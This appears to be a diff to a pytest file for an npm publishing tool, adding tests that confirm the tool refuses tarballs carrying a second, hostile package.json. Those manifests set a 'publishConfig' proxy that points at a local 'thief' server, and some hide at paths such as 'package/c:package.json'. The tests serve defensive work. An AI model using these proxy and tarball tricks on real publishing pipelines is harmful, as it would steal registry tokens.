@@ -9,14 +9,19 @@ from __future__ import annotations
 import json
 import subprocess
 import tarfile
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 
+from chittyactions.cancel import Cancellation
+from chittyactions.entries.package_publish import Step
 from chittyactions.errors import ArtifactError, ConfigError
+from chittyactions.publish import npm_cli, npm_tarball
 from chittyactions.publish.model import Status
 from chittyactions.publish.npm_cli import NpmSession
+from chittyactions.publish.npm_unpack import check_unpacking
 from chittyactions.publish.package_json import judge_package
 from chittylocal import Local
 from publish.npm.packages import ENVIRONMENT, Publisher, package, release, tarball, the_npm
@@ -73,20 +78,37 @@ def test_publish_config(publisher: Publisher, thief: Thief, tmp_path: Path, tric
     assert thief.heard == []
 
 
-def test_the_refusal_is_needed(publisher: Publisher, thief: Thief, tmp_path: Path) -> None:
-    """Our own npm, in its clean folder with every setting named, follows a package's proxy all the same."""
+def test_the_refusal_is_needed(
+    publisher: Publisher, thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Our own npm, in its clean folder with a registry named, follows a package's proxy all the same."""
+    monkeypatch.setattr(npm_cli, "PINNED", ())
     data = package("1.0.0", name=publisher.name, publishConfig={"proxy": thief.url})
     raw_publish(publisher, data, tmp_path)
     assert thief.stole(publisher.local.npm_token)
 
 
-def raw_publish(publisher: Publisher, data: bytes, temp: Path) -> None:
+@pytest.mark.parametrize("trick", PUBLISH_CONFIGS)
+def test_the_second_wall(publisher: Publisher, thief: Thief, tmp_path: Path, trick: str) -> None:
+    """Should a package slip through our look at it, what npm is told goes before what the package says."""
+    secure = trick == "https-proxy"
+    registry = f"{publisher.local.tls_url}/npm/" if secure else publisher.local.npm.url
+    data = package("1.0.0", name=publisher.name, publishConfig=PUBLISH_CONFIGS[trick](thief.url))
+    environ = {**ENVIRONMENT, "NODE_EXTRA_CA_CERTS": str(publisher.local.ca_file)}
+    raw_publish(publisher, data, tmp_path, registry, environ)
+    assert thief.heard == []
+    assert publisher.versions == ["1.0.0"]
+
+
+def raw_publish(
+    publisher: Publisher, data: bytes, temp: Path, registry: str = "", environ: Mapping[str, str] = ENVIRONMENT
+) -> None:
     """Our npm without our look at the package."""
     file = temp / "raw.tgz"
     file.write_bytes(data)
     with NpmSession(
-        the_npm(), registry=publisher.local.npm.url, scope="@chittyos", token=publisher.local.npm_token,
-        provenance=False, environ=ENVIRONMENT, temp=temp, redact=lambda text: text, seconds=20,
+        the_npm(), registry=registry or publisher.local.npm.url, scope="@chittyos", token=publisher.local.npm_token,
+        provenance=False, environ=environ, temp=temp, redact=lambda text: text, seconds=20,
     ) as session:  # fmt: skip
         session.publish(file, tag="latest", access="")
 
@@ -109,13 +131,20 @@ TARBALLS: dict[str, Callable[[bytes, bytes], Members]] = {
         member("package/package.json", good),
         member("package/package.json", evil, tarfile.CONTTYPE),
     ],
+    "a drive letter": lambda good, evil: [
+        member("package/package.json", good),
+        member("package/c:package.json", evil),
+    ],
 }
 """Tarballs in which npm finds another package.json than the one at its usual place."""
 
 
 @pytest.mark.parametrize("trick", TARBALLS)
-def test_two_manifests(publisher: Publisher, thief: Thief, tmp_path: Path, trick: str) -> None:
+def test_two_manifests(
+    publisher: Publisher, thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trick: str
+) -> None:
     """npm takes the last one, under whatever folder; such a tarball is refused before there is a token."""
+    monkeypatch.setattr(npm_cli, "PINNED", ())
     good = json.dumps({"name": publisher.name, "version": "1.0.0"}).encode()
     evil = json.dumps({"name": publisher.name, "version": "1.0.0", "publishConfig": {"proxy": thief.url}}).encode()
     data = tarball(TARBALLS[trick](good, evil))
@@ -128,6 +157,42 @@ def test_two_manifests(publisher: Publisher, thief: Thief, tmp_path: Path, trick
     with pytest.raises(ArtifactError, match="tarball is refused"):
         publisher.channel().publish(made, dry_run=False)
     assert thief.heard == []
+
+
+@pytest.mark.parametrize("path", ["package/c:package.json", "evil/package.json"])
+def test_npm_itself_is_asked(
+    publisher: Publisher, thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
+) -> None:
+    """A path that our own look passes over is found by npm's code, before npm is given the token."""
+    monkeypatch.setattr(npm_cli, "PINNED", ())
+    monkeypatch.setattr(npm_tarball, "_judge_path", lambda *_: None)
+    good = json.dumps({"name": publisher.name, "version": "1.0.0"})
+    evil = json.dumps({"name": publisher.name, "version": "1.0.0", "publishConfig": {"proxy": thief.url}})
+    made = release(tmp_path / "f", tarball({"package/package.json": good, path: evil}), "1.0.0", publisher.name)
+    with pytest.raises(ArtifactError, match="npm that publishes finds another"):
+        publisher.channel().publish(made, dry_run=False)
+    assert thief.heard == []
+    assert publisher.versions == []
+
+
+def test_the_check_asks_npm_too(publisher: Publisher, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What npm reads is looked at in the phase that comes before every credential."""
+    monkeypatch.setattr(npm_tarball, "_judge_path", lambda *_: None)
+    good = json.dumps({"name": publisher.name, "version": "1.0.0"})
+    data = tarball({"package/package.json": good, "package/c:/package.json": good + " "})
+    runner = SimpleNamespace(environ={**ENVIRONMENT, "RUNNER_TEMP": str(publisher.temp)}, info=publisher.said.append)
+    step = Step(runner, SimpleNamespace(registry_url=publisher.local.npm.url), Cancellation())  # type: ignore[arg-type]
+    with pytest.raises(ArtifactError, match="npm that publishes finds another"):
+        step._check_npm(release(tmp_path / "f", data, "1.0.0", publisher.name))
+    step._check_npm(publisher.release("1.0.0"))
+
+
+def test_a_package_that_npm_cannot_unpack(tmp_path: Path) -> None:
+    """Where npm's own code ends with an error, its words are shown."""
+    file = tmp_path / "it.tgz"
+    file.write_bytes(tarball({"package/package.json": "{"}))
+    with pytest.raises(ArtifactError, match=r"npm that publishes cannot unpack it: .*JSON"):
+        check_unpacking(the_npm(), file, environ=ENVIRONMENT, temp=tmp_path)
 
 
 def test_npmrc_above(publisher: Publisher, thief: Thief, tmp_path: Path) -> None:
